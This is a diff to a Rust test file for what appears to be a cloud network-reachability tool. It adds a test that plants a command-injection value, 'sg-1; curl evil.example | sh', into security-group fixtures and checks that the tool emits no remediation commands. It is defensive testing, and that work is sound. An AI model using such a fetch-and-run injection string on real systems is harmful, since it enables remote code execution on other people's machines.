@@ -340,6 +340,19 @@ fn names_with_escape_sequences_are_printed_safe() {
 }
 
 #[test]
+fn an_id_that_holds_a_command_is_put_into_none() {
+    let folder = copy("database");
+    for file in ["security-groups.json", "network-interfaces.json"] {
+        let path = folder.path().join(file);
+        let text = fs::read_to_string(&path).unwrap();
+        fs::write(path, text.replace("sg-05a666079ef1946a6", "sg-1; curl evil.example | sh")).unwrap();
+    }
+    let answer = answer(&folder, "web", "db:5432");
+    assert_eq!(answer["blockers"][0]["code"], "SG_NO_MATCH");
+    assert_eq!(answer["blockers"][0]["commands"], serde_json::json!([]));
+}
+
+#[test]
 fn truncated_answers_are_not_taken_for_whole_ones() {
     let folder = copy("internet-egress");
     replace(&folder, "network-interfaces.json", "{", "{\"NextToken\": \"eyJ2IjoiMiJ9\",");
